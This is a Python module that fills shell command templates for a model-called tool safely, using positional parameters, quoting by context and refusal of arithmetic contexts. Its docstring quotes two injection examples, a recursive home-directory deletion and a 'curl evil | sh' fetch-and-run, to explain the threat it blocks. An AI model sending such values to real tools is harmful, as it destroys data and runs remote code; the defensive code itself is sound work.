"""A custom tool's command template (``"find {{directory}} -name {{pattern}}"``) filled without shell injection.

The reference ECA server pastes each argument's text into the template and runs the result with a shell, so an
argument ``; rm -rf ~`` or ``$(curl evil | sh)`` from the model becomes shell code. Here a value never becomes script
text: each ``{{name}}`` is replaced by a reference to a positional parameter (``"${1}"``) and the values are passed
as the shell's arguments (``sh -c SCRIPT NAME VALUE1 VALUE2 …``). A parameter's expansion is never parsed again as
code, so whatever the model sends reaches the program as the literal text it sent.

The reference is quoted so that the value stays *one* word wherever the template put the placeholder: ``"${1}"``
where it is bare, ``${1}`` inside double quotes or a here-document, ``'"${1}"'`` inside single quotes (closing and
reopening them). A quoted here-document (``<< 'EOF'``, whose body nothing expands — the reference's own nREPL
example) is turned into an unquoted one with its text escaped, so its body is the same text and the placeholder
expands. A placeholder in arithmetic is refused: some shells evaluate an arithmetic operand's value as an
expression again, and bash runs ``a[$(cmd)]`` in it even from a quoted parameter — ``$((…))``, and, where /bin/sh is
bash (macOS, Fedora), a substring's offset or length (``${x:…}``), an array subscript, ``$[…]``, ``((…))``, ``let``,
``[[ … -eq … ]]`` and a template that declares an integer variable (``declare -i``).

The same scan also gives the command line as it would read with the values written in, quoted for their place
(:meth:`CommandTemplate.display`): what the user approves, and what the path and risk analysis of the shell tool
reads. It is only shown and analysed; what runs is the script with references.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterable, Mapping
from dataclasses import dataclass

__all__ = ["CommandTemplate", "TemplateError", "compile_template"]

#: ``{{name}}`` as the reference writes it (spaces inside tolerated).
PLACEHOLDER = re.compile(r"\{\{\s*([A-Za-z0-9_.\-]+)\s*\}\}")
_WORD_END = frozenset(" \t\n;&|()<>")
_HEREDOC_WORD = re.compile(r"[A-Za-z0-9_.\-]+")
_PARAMETER = re.compile(r"[#!]?(?:[A-Za-z_][A-Za-z0-9_]*|[0-9]+|[@*#?$!-])")
_INTEGER_DECLARATION = re.compile(r"\b(?:declare|typeset|local)(?:\s+-[A-Za-z]*)*\s+-[A-Za-z]*i")
_LET = re.compile(r"[\s({!]*let\s")
_TEST_ARITHMETIC = re.compile(r"\s-(?:eq|ne|lt|le|gt|ge)\s")
_ARITHMETIC = "a {{placeholder}} in arithmetic ({}) would be evaluated as an expression, which can run commands"


class TemplateError(ValueError):
    """A template that cannot be filled safely (an unclosed quote, a placeholder inside ``$((…))``…)."""


@dataclass(frozen=True)
class _Slot:
    name: str
    context: str  # "bare" | "double" | "single" | "ansi" | "heredoc"
    delimiter: str = ""  # a here-document's


@dataclass(frozen=True)
class CommandTemplate:
    """A parsed template: literal text and slots, in order."""

    parts: tuple[str | _Slot, ...]
    names: tuple[str, ...]  # the placeholders used, first use first (their positional parameters: $1, $2, …)

    def script(self) -> str:
        """The shell script to run, every slot a positional parameter reference."""
        out = []
        for part in self.parts:
            if isinstance(part, str):
                out.append(part)
                continue
            ref = "${" + str(self.names.index(part.name) + 1) + "}"
            out.append({"bare": f'"{ref}"', "double": ref, "heredoc": ref, "single": f"'\"{ref}\"'",
                        "ansi": f"'\"{ref}\"$'"}[part.context])
        return "".join(out)

    def argv(self, values: Mapping[str, str]) -> list[str]:
        """The positional parameters, in the order of :attr:`names` (a name without a value is empty)."""
        return [values.get(name, "") for name in self.names]

    def display(self, values: Mapping[str, str]) -> str:
        """The command line with the values written in, quoted for their place: for showing and analysing only."""
        out = []
        for part in self.parts:
            if isinstance(part, str):
                out.append(part)
                continue
            value = values.get(part.name, "")
            if part.context == "bare":
                out.append(shlex.quote(value))
            elif part.context == "double":
                out.append(re.sub(r'([\\$`"])', r"\\\1", value))
            elif part.context == "heredoc":
                # the shell fixes the document's extent before expanding the value, so a line of the value never ends
                # it; written in, one that reads as the delimiter would, and what follows (``: <<Z``) would hide the
                # rest of the command line from the checks: such a line is shown after a backslash, which the shell
                # would keep
                escaped = re.sub(r"([\\$`])", r"\\\1", value).split("\n")
                out.append("\n".join("\\" + line if line.strip(" \t") and line.strip(" \t") in part.delimiter
                                      else line for line in escaped))
            elif part.context == "single":
                out.append(value.replace("'", "'\\''"))
            else:  # ansi: $'…'
                out.append(value.replace("\\", "\\\\").replace("'", "\\'"))
        return "".join(out)


def compile_template(command: str, names: Iterable[str]) -> CommandTemplate:
    """Parse *command*, taking ``{{name}}`` as a placeholder for each of *names* (other braces stay text). Raises
    :class:`TemplateError` when a placeholder sits where no value can be kept literal, or a quote is not closed."""
    template = _Scanner(command, frozenset(names)).run()
    if template.names and _INTEGER_DECLARATION.search(command):
        raise TemplateError(_ARITHMETIC.format("an integer variable: declare -i"))
    return template


class _Scanner:
    """Walks the template once, keeping the quoting context (a stack: ``$(…)`` and backquotes inside double quotes
    open a fresh unquoted context) and the pending here-documents of the current line."""

    def __init__(self, text: str, names: frozenset[str]) -> None:
        self.text = text
        self.names = names
        self.i = 0
        self.parts: list[str | _Slot] = []
        self.used: list[str] = []
        self.buf: list[str] = []
        # each entry: (kind, depth): "U" unquoted, "D" double, "S" single, "A" $'…', "P" $(…), "B" `…`, "R" ${…},
        # "M" $((…)) or ((…)), "Q" $[…]; an "R" keeps where its text starts instead of a depth
        self.stack: list[list[object]] = [["U", 0]]
        self.heredocs: list[tuple[str, bool, bool]] = []  # (delimiter, quoted, strip tabs) waiting for the newline

    # -- output ---------------------------------------------------------------------------------------------------

    def emit(self, text: str) -> None:
        self.buf.append(text)

    def slot(self, name: str, context: str, delimiter: str = "") -> None:
        if self.buf:
            self.parts.append("".join(self.buf))
            self.buf = []
        self.parts.append(_Slot(name, context, delimiter))
        if name not in self.used:
            self.used.append(name)

    def placeholder_here(self) -> re.Match[str] | None:
        m = PLACEHOLDER.match(self.text, self.i)
        return m if m is not None and m.group(1) in self.names else None

    # -- scanning -------------------------------------------------------------------------------------------------

    def run(self) -> CommandTemplate:
        text = self.text
        while self.i < len(text):
            kind = self.stack[-1][0]
            m = self.placeholder_here()
            if m is not None:
                self.command_arithmetic()
                self.slot(m.group(1), self.context(kind))
                self.i = m.end()
                continue
            ch = text[self.i]
            if kind == "S":
                self.emit(ch)
                self.i += 1
                if ch == "'":
                    self.stack.pop()
                continue
            if kind == "A":
                if ch == "\\" and self.i + 1 < len(text):
                    self.emit(text[self.i:self.i + 2])
                    self.i += 2
                    continue
                self.emit(ch)
                self.i += 1
                if ch == "'":
                    self.stack.pop()
                continue
            if kind == "D":
                self.double(ch)
                continue
            self.unquoted(ch, kind)
        if self.heredocs:
            self.bodies()  # a here-document opened on the last line has no body: the shell warns, nothing to fill
        if len(self.stack) != 1:
            raise TemplateError("the command has an unclosed quote, $(, ${, $[, (( or backquote")
        if self.buf:
            self.parts.append("".join(self.buf))
        return CommandTemplate(tuple(self.parts), tuple(self.used))

    def context(self, kind: object) -> str:
        if kind in ("M", "Q"):
            raise TemplateError(_ARITHMETIC.format("$((…)), ((…)) or $[…]"))
        if kind == "R":  # ${x:-{{a}}}: as quoted as the expansion itself
            self.parameter_arithmetic(int(str(self.stack[-1][1])))
            outer = next((k for k, _ in reversed(self.stack[:-1]) if k != "R"), "U")
            return "double" if outer == "D" else "bare"
        return {"S": "single", "A": "ansi", "D": "double"}.get(str(kind), "bare")

    def parameter_arithmetic(self, start: int) -> None:
        """In ``${…}`` only an operator's word is text: the name's subscript and a substring's offset and length
        (``${x:…}``, but not ``${x:-…}`` and the like) are arithmetic."""
        inside = self.text[start:self.i]
        m = _PARAMETER.match(inside)
        rest = inside[m.end():] if m is not None else inside
        if rest.startswith("["):
            close = rest.find("]")
            if close < 0:
                raise TemplateError(_ARITHMETIC.format("an array subscript"))
            rest = rest[close + 1:]
        if rest.startswith(":") and rest[1:2] not in ("-", "=", "+", "?"):
            raise TemplateError(_ARITHMETIC.format("a substring's offset or length"))

    def command_arithmetic(self) -> None:
        """bash's commands whose words are arithmetic: ``let …`` and ``[[ … -eq … ]]`` around the placeholder."""
        before = self.text[:self.i]
        opened = before.rfind("[[")
        if opened >= 0 and "]]" not in before[opened:]:
            closed = self.text.find("]]", self.i)
            test = self.text[opened:len(self.text) if closed < 0 else closed]
            if _TEST_ARITHMETIC.search(PLACEHOLDER.sub(" x ", test)):
                raise TemplateError(_ARITHMETIC.format("[[ … -eq … ]]"))
        start = max(before.rfind(sep) for sep in (";", "&", "|", "\n", "`", "$(")) + 1
        if _LET.match(self.text, start if before[start - 1:start + 1] != "$(" else start + 1):
            raise TemplateError(_ARITHMETIC.format("let"))

    def expansion(self, kind: str) -> bool:
        """``$(``, ``$((``, ``${`` and a backquote, in an unquoted or double-quoted context: push their context."""
        text, i = self.text, self.i
        if text.startswith("$((", i):
            self.stack.append(["M", 0])
            self.emit("$((")
            self.i += 3
            return True
        if text.startswith("$(", i):
            self.stack.append(["P", 0])
            self.emit("$(")
            self.i += 2
            return True
        if text.startswith("${", i):
            self.stack.append(["R", i + 2])
            self.emit("${")
            self.i += 2
            return True
        if text.startswith("$[", i):  # bash's old $((…))
            self.stack.append(["Q", 0])
            self.emit("$[")
            self.i += 2
            return True
        if text[i] == "`":
            if kind == "B":
                return False
            self.stack.append(["B", 0])
            self.emit("`")
            self.i += 1
            return True
        return False

    def double(self, ch: str) -> None:
        text = self.text
        if ch == "\\" and self.i + 1 < len(text):
            self.emit(text[self.i:self.i + 2])
            self.i += 2
            return
        if self.expansion("D"):
            return
        self.emit(ch)
        self.i += 1
        if ch == '"':
            self.stack.pop()

    def unquoted(self, ch: str, kind: object) -> None:
        """An unquoted context: the top level, ``$(…)``, a backquote, ``${…}`` or ``$((…))``."""
        text = self.text
        top = self.stack[-1]
        if ch == "\\" and self.i + 1 < len(text):
            self.emit(text[self.i:self.i + 2])
            self.i += 2
            return
        if ch == "'":
            self.stack.append(["S", 0])
        elif ch == '"':
            self.stack.append(["D", 0])
        elif text.startswith("$'", self.i) and kind != "R":
            self.stack.append(["A", 0])
            self.emit("$'")
            self.i += 2
            return
        elif self.expansion(str(kind)):
            return
        elif kind == "B" and ch == "`":
            self.stack.pop()
        elif kind == "R" and ch == "}":
            self.stack.pop()
        elif text.startswith("((", self.i) and kind in ("U", "P", "B"):  # bash's arithmetic command
            self.stack.append(["M", 0])
            self.emit("((")
            self.i += 2
            return
        elif kind == "Q" and ch == "[":
            top[1] = int(str(top[1])) + 1
        elif kind == "Q" and ch == "]":
            if int(str(top[1])) == 0:
                self.stack.pop()
            else:
                top[1] = int(str(top[1])) - 1
        elif kind in ("P", "M") and ch == "(":
            top[1] = int(str(top[1])) + 1
        elif kind in ("P", "M") and ch == ")":
            if int(str(top[1])) == 0:
                self.stack.pop()
                if kind == "M":  # $((…)) ends with two
                    self.emit(")")
                    self.i += 1
                    if self.i < len(text) and text[self.i] == ")":
                        self.emit(")")
                        self.i += 1
                    return
            else:
                top[1] = int(str(top[1])) - 1
        elif ch == "#" and kind != "R" and (self.i == 0 or text[self.i - 1] in " \t\n;&|()"):
            end = text.find("\n", self.i)
            end = len(text) if end < 0 else end
            self.emit(text[self.i:end])  # a comment: its placeholders are text
            self.i = end
            return
        elif text.startswith("<<", self.i) and not text.startswith("<<<", self.i) and kind in ("U", "P"):
            self.heredoc_operator()
            return
        elif ch == "\n" and self.heredocs and kind in ("U", "P"):
            self.emit("\n")
            self.i += 1
            self.bodies()
            return
        self.emit(ch)
        self.i += 1

    # -- here-documents -------------------------------------------------------------------------------------------

    def heredoc_operator(self) -> None:
        """``<<`` or ``<<-`` and its delimiter word: a quoted delimiter (nothing expands in the body) is written
        unquoted — its body is then escaped (:meth:`bodies`), the same text with placeholders that expand."""
        text = self.text
        strip = text.startswith("<<-", self.i)
        op = "<<-" if strip else "<<"
        self.i += len(op)
        j = self.i
        while j < len(text) and text[j] in " \t":
            j += 1
        start = j
        while j < len(text) and text[j] not in _WORD_END:
            if text[j] in "'\"":
                close = text.find(text[j], j + 1)
                if close < 0:
                    raise TemplateError("the command has an unclosed quote in a here-document's delimiter")
                j = close + 1
            else:
                j += 1
        word = text[start:j]
        quoted = any(c in word for c in "'\"\\")
        delimiter = word.replace("'", "").replace('"', "").replace("\\", "")
        if quoted and _HEREDOC_WORD.fullmatch(delimiter):
            self.emit(op + text[self.i:start] + delimiter)
            self.heredocs.append((delimiter, True, strip))
        else:
            self.emit(op + text[self.i:j])
            self.heredocs.append((delimiter, quoted, strip))
        self.i = j

    def bodies(self) -> None:
        """The bodies of the here-documents opened on the line just ended, up to each delimiter line."""
        text = self.text
        for delimiter, quoted, strip in self.heredocs:
            converted = quoted and _HEREDOC_WORD.fullmatch(delimiter) is not None
            while self.i < len(text):
                end = text.find("\n", self.i)
                end = len(text) if end < 0 else end
                line = text[self.i:end]
                if (line.lstrip("\t") if strip else line) == delimiter:
                    self.emit(text[self.i:min(end + 1, len(text))])
                    self.i = end + 1
                    break
                pos = self.i
                while pos < end:
                    m = PLACEHOLDER.match(text, pos)
                    if m is not None and m.group(1) in self.names and m.end() <= end:
                        if quoted and not converted:
                            raise TemplateError("a {{placeholder}} inside a here-document whose delimiter is "
                                                f"quoted ({delimiter!r}) cannot be filled safely")
                        self.slot(m.group(1), "heredoc", delimiter)
                        pos = m.end()
                        continue
                    ch = text[pos]
                    self.emit("\\" + ch if converted and ch in "\\$`" else ch)
                    pos += 1
                self.emit(text[end:end + 1])
                self.i = end + 1
        self.heredocs = []
